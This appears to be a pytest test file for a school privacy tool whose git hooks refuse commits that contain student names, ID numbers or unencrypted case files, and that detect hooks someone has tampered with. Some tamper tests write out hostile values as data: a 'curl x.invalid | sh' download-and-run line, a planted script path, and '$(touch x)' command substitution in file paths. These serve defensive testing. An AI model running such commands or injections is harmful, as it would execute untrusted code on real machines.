"""A commit made by hand is looked through before git makes it: what must not be saved is refused, with its place."""

import os
import shutil
import sys
from pathlib import Path

import pytest
import yaml

from gitprogram import tell
from program import Program, copied, made_by_start
from sosialplan.git.brought import brought
from sosialplan.git.hooks import hook_state, hook_text, put_hooks
from sosialplan.git.program import Answer, ask
from sosialplan.git.repository import find_depot
from sosialplan.git.settings import read_config
from sosialplan.model.omgivelser import Vakt
from sosialplan.rules.vokt import check_message
from sosialplan.tekster.koder.sjekk import VOKT

ELEV = "Oppdiktet Elev Nattergal"
NUMMER = "01010000110"
BY_HAND = {"SOSIALPLAN_SKRIVER": ""}
"""What tells git's hooks that it is a person who saves."""
ROOT = Path(__file__).parent.parent


@pytest.fixture(scope="module")
def skolen_med_elev(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = made_by_start(tmp_path_factory.mktemp("vokt") / "sko len's")
    Program(root).new_case(elev=ELEV)
    return root


@pytest.fixture
def program(skolen_med_elev: Path, tmp_path: Path) -> Program:
    return Program(copied(skolen_med_elev, tmp_path / "sko len's"))


def saved(program: Program, message: str = "Rettet", *more: str) -> Answer:
    """Save what is staged as a person does, with the hooks."""
    command = ("commit", "--quiet", "-m", message, *more)
    return ask(program.root, *command, obeys=True, extra_env=BY_HAND)


def stage(program: Program, name: str, text: str | bytes) -> None:
    path = program.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    program.git("add", "--force", name)


def case_text(program: Program) -> str:
    (path,) = (program.root / "saker" / "2026").iterdir()
    return path.read_text("utf-8")


REFUSED: tuple[tuple[str, str, str], ...] = (
    ("D881", "ut/plan.pdf", "%PDF"),
    ("D881", "2026-0001R-plan.docx", "x"),
    ("D881", "liste.CSV", "x"),
    ("D881", "maler/plan.pdf", "x"),
    ("D883", f"notat-{ELEV}.yaml", "a: 1\n"),
    ("D883", "notater/nattergal.yaml", "a: 1\n"),
    ("D884", "plan/notat.yaml", f"a: 1\nb: {NUMMER}\n"),
    ("D884", "moter/2026-2027/r-team.yaml", f"b: {NUMMER}\n"),
    ("D885", "plan/notat.yaml", f"a: 1\nb: snakket med {ELEV}\n"),
    ("D885", "plan/notat.yaml", "a: >-\n  snakket med Oppdiktet Elev\n  Nattergal\n"),
    ("D885", "maler/ny.md.j2", f"Hei {ELEV}\n"),
    ("D885", "README.md", f"Hei {ELEV}\n"),
)


@pytest.mark.parametrize(("code", "name", "text"), REFUSED, ids=lambda each: str(each)[:40])
def test_what_must_not_be_saved_is_refused_with_its_place(
    program: Program, code: str, name: str, text: str
) -> None:
    stage(program, name, text)
    told = program.run("vokt")
    assert told.status == 1
    assert f"{name}:" in told.err
    assert f"feil[{code}]" in told.err
    assert ELEV not in told.err.replace(name, "")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("plan/notat.yaml", "a: Snakket med klassen\nb: 12345678901\n"),
        ("plan/navn.yaml", f"a: {ELEV}\n"),
        ("plan/skjema/ny.json", "{}"),
        ("maler/bilde.png", b"\x89PNG\xff\x00"),
        ("maler/ordlyd/nn.txt", "Ord = Ord\n"),
        ("README.md", "Skolens mappe\n"),
        ("fravaer/2026-2027/8B.yaml", f"elever: [{{elev: {ELEV}}}]\n"),
    ],
)
def test_what_may_be_saved_is_let_through(program: Program, name: str, text: str | bytes) -> None:
    stage(program, name, text)
    assert program.fine("vokt").err == ""


def test_a_case_in_clear_is_refused_where_they_are_encrypted(program: Program) -> None:
    stage(program, "saker/2026/2026-7KQ2H.yaml", case_text(program))
    assert program.fine("vokt").err == ""
    stage(program, "saker/2026/2026-7KQ2M.yaml.age", "age-encryption.org/v1\n")
    told = program.run("vokt").err
    assert "saker/2026/2026-7KQ2H.yaml:1:1: feil[D882]" in told
    assert "2026-7KQ2M" not in told


def test_where_the_plan_cannot_be_read_nobody_is_taken_for_absent(program: Program) -> None:
    (program.root / "plan" / "skole.yaml").write_text("navn: [", encoding="utf-8")
    assert "feil[D887]" in program.run("vokt").err


@pytest.mark.parametrize(
    ("message", "code"),
    [
        (f"Møte med {ELEV}", "D886"),
        ("Møte med Nattergal", "D886"),
        ("Rettet\n\nGjelder nattergal sin plan", "D886"),
        (f"Rettet {NUMMER}", "D884"),
        ("Rettet 2026-0001R", None),
        (f"Rettet\n# ------------------------ >8 ------------------------\n{ELEV}", None),
        (f"Rettet\n# {ELEV}", None),
    ],
)
def test_the_words_of_a_commit_are_looked_through(
    program: Program, tmp_path: Path, message: str, code: str | None
) -> None:
    path = tmp_path / "melding"
    path.write_text(message, encoding="utf-8")
    told = program.run("vokt", "--melding", str(path))
    assert told.status == (code is not None)
    assert ELEV not in told.err
    if code:
        assert f"feil[{code}]" in told.err


def test_where_nobody_is_known_a_number_is_still_seen() -> None:
    assert [each.code for each in check_message(f"{ELEV}\n{NUMMER}", None)] == ["D884"]


def test_a_message_that_cannot_be_read_is_no_empty_one(program: Program, tmp_path: Path) -> None:
    (tmp_path / "melding").write_bytes(b"\xff")
    assert program.run("vokt", "--melding", str(tmp_path / "melding")).status == 3
    assert program.run("vokt", "--melding", str(tmp_path / "ingen")).status == 3


def test_every_code_is_explained_and_ends_in_a_cure(program: Program) -> None:
    named = {each[0] for each in REFUSED} | {"D882", "D886", "D887"}
    assert sorted(named) == [each.code for each in VOKT]
    for kind in VOKT:
        assert kind.why in program.fine("forklar", kind.code).out


# Git runs it


def test_git_itself_refuses_and_says_why(program: Program) -> None:
    stage(program, "plan/notat.yaml", f"a: {ELEV}\n")
    answer = saved(program)
    assert answer.status == 1
    assert "plan/notat.yaml:1:1: feil[D885]" in answer.err.decode("utf-8")
    stage(program, "plan/notat.yaml", "a: 1\n")
    named = saved(program, f"Snakket med {ELEV}")
    assert named.status == 1
    assert "feil[D886]" in named.err.decode("utf-8")
    assert saved(program).status == 0


def test_what_is_saved_by_name_alone_is_what_is_looked_at(program: Program) -> None:
    """Git makes a list of its own for it, beside the one that a person has staged in."""
    stage(program, "plan/andre.yaml", f"a: {ELEV}\n")
    stage(program, "plan/notat.yaml", "a: 1\n")
    assert saved(program, "Rettet", "--only", "--", "plan/notat.yaml").status == 0
    assert saved(program).status == 1


def test_what_the_program_saves_is_not_looked_at_twice(program: Program) -> None:
    hook = program.root / ".git" / "hooks" / "pre-commit"
    assert hook.read_bytes() == hook_text("pre-commit")
    program.fine("registrer", "2026-0001R", "notat", "--notat", f"Snakket med {ELEV}")
    assert 'SOSIALPLAN_SKRIVER" ] || exit 0' in hook.read_text("utf-8")


def test_an_interpreter_that_is_gone_stops_the_commit_and_says_so(program: Program) -> None:
    hook = program.root / ".git" / "hooks" / "pre-commit"
    text = hook.read_text("utf-8").replace(sys.executable, "/finnes/ikke/python")
    hook.write_text(text, encoding="utf-8", newline="\n")
    stage(program, "plan/notat.yaml", "a: 1\n")
    answer = saved(program)
    assert answer.status == 1
    assert "sosialplan sjekk --reparer" in answer.err.decode("utf-8")


def test_a_planmappe_inside_another_folder_of_the_repository(tmp_path: Path) -> None:
    tell(tmp_path, "init", "--quiet")
    folder = tmp_path / "sko len's"
    shutil.copytree(made_by_start(tmp_path / "ny"), folder, ignore=shutil.ignore_patterns(".git"))
    depot = find_depot(folder)
    assert put_hooks(depot, read_config(folder))
    program = Program(folder)
    stage(program, "plan/notat.yaml", f"a: {NUMMER}\n")
    answer = saved(program)
    assert "plan/notat.yaml:1:1: feil[D884]" in answer.err.decode("utf-8")


# How it stands


def codes(program: Program, *more: str) -> set[str]:
    told = program.run("sjekk", *more, "--format", "json").json()
    return {each["kode"] for each in (*told["funn"], *told["personvern"])}


def test_start_sets_it_and_sjekk_sets_it_again(program: Program) -> None:
    hooks = program.root / ".git" / "hooks"
    assert not {"D861", "D862", "D834"} & codes(program)
    (hooks / "commit-msg").unlink()
    assert "D861" in codes(program)
    assert (
        "Rettet: Kontrollen før lagring (vokt) er satt." in program.fine("sjekk", "--reparer").out
    )
    assert not {"D861", "D862", "D834"} & codes(program)
    assert os.access(hooks / "commit-msg", os.X_OK)


def test_a_copy_without_it_is_told_of(program: Program, tmp_path: Path) -> None:
    tell(tmp_path, "clone", "--quiet", str(program.root), str(tmp_path / "b"))
    other = Program(tmp_path / "b")
    assert "D861" in codes(other)
    assert "D861" not in codes(other, "--reparer")


def test_a_hook_of_somebody_elses_is_never_written_over(program: Program) -> None:
    hook = program.root / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
    assert {"D862", "D834"} <= codes(program)
    program.run("sjekk", "--godta")
    program.run("sjekk", "--reparer")
    assert hook.read_text("utf-8") == "#!/bin/sh\nexit 0\n"
    program.git("config", "core.hooksPath", "/et/annet/sted")
    assert "D862" in codes(program)


@pytest.mark.parametrize(
    "changed",
    [
        ("program=", "curl x.invalid | sh; program="),
        (sys.executable, "./plan/ond"),
        (" vokt\n", " vokt; ./plan/ond\n"),
        ("-C ./", "-C ../annet"),
    ],
)
def test_a_hook_that_looks_like_it_and_says_more_is_never_run_and_made_anew(
    program: Program, changed: tuple[str, str]
) -> None:
    hook = program.root / ".git" / "hooks" / "pre-commit"
    old, new = changed
    hook.write_text(hook.read_text("utf-8").replace(old, new), encoding="utf-8", newline="\n")
    depot, config = find_depot(program.root), read_config(program.root)
    assert [each.name for each in brought(depot, config)] == ["kroken pre-commit"]
    assert hook_state(depot, config) is Vakt.MANGLER
    assert {"D834", "D861"} <= codes(program)
    assert hook.read_bytes() != hook_text("pre-commit"), "a command that reads mends nothing"
    program.fine("registrer", "2026-0001R", "notat", "--notat", "x")
    assert hook.read_bytes() == hook_text("pre-commit")
    assert not {"D834", "D861"} & codes(program)


def test_a_path_with_quotes_and_blanks_stays_one_word() -> None:
    said = hook_text("commit-msg", "a'b $(touch x)/", "/o'rn $(x)/py thon").decode("utf-8")
    assert "program='/o'\"'\"'rn $(x)/py thon'" in said
    assert "-C './a'\"'\"'b $(touch x)'" in said


def test_the_pre_commit_program_is_offered_the_same() -> None:
    offered = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    said = {each["stages"][0]: each["entry"] for each in offered}
    assert said == {"pre-commit": "sosialplan vokt", "commit-msg": "sosialplan vokt --melding"}
    assert [each.get("pass_filenames", True) for each in offered] == [False, True]


# What the program saves of what was written by hand


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [
        ("plan/begreper.yaml", f"# snakk med {ELEV}\n", "D885"),
        ("plan/begreper.yaml", f"# se {NUMMER}\n", "D884"),
        ("maler/ny.md.j2", f"Hei {ELEV}\n", "D885"),
    ],
)
def test_lagre_refuses_the_same_in_the_plan_and_the_templates(
    program: Program, name: str, text: str, code: str
) -> None:
    path = program.root / name
    before = program.git("rev-parse", "HEAD")
    held = path.read_text("utf-8") if path.exists() else ""
    path.write_text(held + text, encoding="utf-8", newline="\n")
    told = program.run("lagre")
    assert told.status == 1
    line = len(held.splitlines()) + 1
    assert f"{name}:{line}:1: feil[{code}]" in told.err
    assert program.git("rev-parse", "HEAD") == before
    path.write_text(held + "# snakk med kontaktlærer\n", encoding="utf-8", newline="\n")
    program.run("lagre")
    assert program.git("rev-parse", "HEAD") != before


def test_lagre_lets_a_case_and_the_schools_own_names_be(program: Program) -> None:
    case = program.case("2026-0001R")
    case.write_text(case.read_text("utf-8") + f"# {ELEV}\n", encoding="utf-8", newline="\n")
    names = program.root / "plan" / "navn.yaml"
    names.write_text(names.read_text("utf-8") + f"# {ELEV}\n", encoding="utf-8", newline="\n")
    assert program.run("lagre").status == 0
